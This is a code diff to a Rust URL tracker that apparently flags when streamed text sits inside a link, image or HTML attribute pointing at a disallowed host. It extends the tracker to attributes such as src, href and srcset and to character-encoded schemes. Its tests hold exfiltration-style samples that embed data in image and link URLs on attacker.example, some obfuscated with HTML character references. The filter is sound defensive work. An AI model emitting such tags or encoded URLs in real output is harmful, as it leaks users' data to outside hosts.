@@ -13,7 +13,10 @@
 //! - `//host…` and `\\host…` after a non-word char (protocol-relative);
 //! - `www.…` after a non-word char (autolinked by Markdown renderers);
 //! - a Markdown link or image target `](…)` whatever it holds (a relative
-//!   target has no host: never allowed).
+//!   target has no host: never allowed);
+//! - the value of an HTML attribute that holds a URL (`src`, `href`,
+//!   `srcset`, `action`, …) whatever it holds: browsers decode character
+//!   references there (`&#104;ttps&#58;//…`) before they read the URL.
 //!
 //! A URL ends where a renderer would end it, or later: after a `"` or `'`
 //! only at the same quote (an HTML attribute holds spaces and line breaks),
@@ -26,6 +29,22 @@
 //! host not yet complete.
 
 use super::policy::UrlRule;
+
+/// HTML attributes whose value a browser fetches or follows.
+const URL_ATTRIBUTES: [&str; 12] = [
+    "src",
+    "href",
+    "srcset",
+    "action",
+    "formaction",
+    "poster",
+    "data",
+    "background",
+    "cite",
+    "ping",
+    "longdesc",
+    "lowsrc",
+];
 
 /// Longest scheme looked at; a longer word is not one.
 const MAX_SCHEME: usize = 16;
@@ -42,8 +61,15 @@ pub(crate) struct UrlTracker {
     word: String,
     word_opener: char,
     word_valid: bool,
-    /// A Markdown link target being read: how it ends.
+    /// A Markdown link target or a URL attribute's value being read: how
+    /// it ends.
     md_target: Option<End>,
+    /// The last word was a URL attribute's name, followed by whitespace at
+    /// most: a `=` opens its value.
+    after_attribute: bool,
+    /// Inside an HTML tag (`<` and a letter, up to `>`): only there is
+    /// `src=` an attribute (`data = x` in prose is not).
+    in_tag: bool,
 }
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -51,6 +77,8 @@ enum End {
     Whitespace,
     Quote(char),
     Angle,
+    /// An unquoted attribute value: whitespace or the tag's `>`.
+    Unquoted,
 }
 
 #[derive(Clone, Debug, Default)]
@@ -59,6 +87,8 @@ enum State {
     Text,
     /// Just after `](`: the target's first char decides its end.
     TargetOpen,
+    /// Just after a URL attribute's `=`: a quote decides its end.
+    AttributeOpen,
     /// After `scheme:` (not a special scheme): `slashes` of the two read.
     Colon {
         end: End,
@@ -95,7 +125,7 @@ impl UrlTracker {
             State::Rest { allowed, .. } => Some(*allowed),
             // Inside a target not (yet) known to be a URL with a host.
             _ if self.md_target.is_some() => Some(false),
-            State::TargetOpen => Some(false),
+            State::TargetOpen | State::AttributeOpen => Some(false),
             _ => None,
         }
     }
@@ -121,6 +151,16 @@ impl UrlTracker {
                 if ends(end, c) {
                     self.md_target = None;
                 } else if c != '<' {
+                    self.text(c);
+                }
+            }
+            State::AttributeOpen => {
+                if c.is_ascii_whitespace() {
+                    self.state = State::AttributeOpen;
+                } else if c == '"' || c == '\'' {
+                    self.md_target = Some(End::Quote(c));
+                } else {
+                    self.md_target = Some(End::Unquoted);
                     self.text(c);
                 }
             }
@@ -192,6 +232,9 @@ impl UrlTracker {
     /// state is then back to text.
     fn url_ends(&mut self, end: End, c: char) -> bool {
         if ends(end, c) {
+            if c == '>' {
+                self.in_tag = false;
+            }
             if self.md_target.is_some_and(|target| ends(target, c)) {
                 self.md_target = None;
             }
@@ -202,6 +245,11 @@ impl UrlTracker {
     }
 
     fn text(&mut self, c: char) {
+        if c == '>' {
+            self.in_tag = false;
+        } else if self.prev == '<' && c.is_ascii_alphabetic() {
+            self.in_tag = true;
+        }
         if let Some(target) = self.md_target {
             if ends(target, c) {
                 self.md_target = None;
@@ -235,6 +283,18 @@ impl UrlTracker {
                 self.word_valid = false;
             }
             return;
+        }
+        if self.in_tag && self.word_valid && URL_ATTRIBUTES.contains(&self.word.as_str()) {
+            self.after_attribute = true;
+        }
+        if c == '=' && self.after_attribute && self.md_target.is_none() {
+            self.after_attribute = false;
+            self.end_word();
+            self.state = State::AttributeOpen;
+            return;
+        }
+        if !c.is_ascii_whitespace() {
+            self.after_attribute = false;
         }
         if c == ':' && self.word_valid && self.word.len() >= 2 {
             let end = self.end_after(self.word_opener);
@@ -283,6 +343,7 @@ fn ends(end: End, c: char) -> bool {
         End::Whitespace => c.is_ascii_whitespace() || c.is_ascii_control(),
         End::Quote(q) => c == q,
         End::Angle => c == '>' || c == '\n',
+        End::Unquoted => c == '>' || c.is_ascii_whitespace() || c.is_ascii_control(),
     }
 }
 
@@ -368,6 +429,10 @@ mod tests {
             "xhttps://§",
             "ftp://attacker.example/§",
             "foo+bar://attacker.example/§",
+            "<img src=\"&#104;ttps&#58;&#47;&#47;attacker.example/?u=a b §\">",
+            "<img SRC = '/p?u=§'>",
+            "<a href=x.html?u=§>",
+            "<img srcset=\"a.png 1x, b.png?u=§ 2x\">",
         ];
         for text in inside_not_allowed {
             assert_eq!(verdict_at_mark(text, &rule), Some(false), "{text:?}");
@@ -394,6 +459,13 @@ mod tests {
             "and/or §",
             "C:\\ §",
             "[a] (§)",
+            "<img src=\"/a.png\" alt=\"§\">",
+            "<a href='x'>§</a>",
+            "the src = § here",
+            "data=§",
+            "<p>data=§</p>",
+            "<a href=x.html?u=a>§</a>",
+            "<img\nsrc='/a.png'\n>\nsrc = §",
         ];
         for text in outside {
             assert_eq!(verdict_at_mark(text, &rule), None, "{text:?}");
@@ -407,6 +479,7 @@ mod tests {
             "x ![i](https://attacker.example/p?u=§",
             "y <a href='https://docs.example.com/a b?§",
             "z www.attacker.example/§",
+            "w <img\n  SRC=\"&#104;ttps&#58;//attacker.example/?u=§",
         ];
         for text in texts {
             let at = text.find('§').unwrap();
